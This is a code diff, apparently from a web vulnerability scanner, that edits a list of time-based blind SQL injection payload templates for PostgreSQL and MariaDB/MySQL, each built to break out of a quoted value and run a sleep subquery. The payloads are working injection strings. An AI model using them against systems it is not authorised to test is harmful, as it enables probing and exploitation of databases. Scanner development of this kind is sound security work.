@@ -7,7 +7,6 @@ const POSTGRESQL = (seconds: string): string => `(SELECT COUNT(*) FROM pg_sleep(
 /** MariaDB and MySQL put a subquery without a table into the statement around it, but none with a limit. */
 const MYSQL = (seconds: string): string => `(SELECT COUNT(*) FROM (SELECT SLEEP(${seconds}) LIMIT 1)a)`;
 
-const anyValue = (): boolean => true;
 const isNumber = (value: string): boolean => NUMBER.test(value);
 
 /**
@@ -19,7 +18,6 @@ export const SQL_DELAYS: readonly DelaySyntax[] = [
   {
     id: 'postgresql-text',
     by: 'PostgreSQL',
-    fits: anyValue,
     write: (value, s) => `${value}'||LEFT(CAST(${POSTGRESQL(s)} AS TEXT),0)||'`,
   },
   { id: 'mysql-number', by: 'MariaDB or MySQL', fits: isNumber, write: (value, s) => `${value}*${MYSQL(s)}` },
@@ -27,14 +25,12 @@ export const SQL_DELAYS: readonly DelaySyntax[] = [
     id: 'mysql-quoted',
     by: 'MariaDB or MySQL',
     unless: 'quoted-in-parentheses',
-    fits: anyValue,
     write: (value, s) => `${value}' AND ${MYSQL(s)}=1 AND 'a'<='a`,
   },
   {
     id: 'mysql-double-quoted',
     by: 'MariaDB or MySQL',
     unless: 'double-quoted-in-parentheses',
-    fits: anyValue,
     write: (value, s) => `${value}" AND ${MYSQL(s)}=1 AND "a"<="a`,
   },
 ];
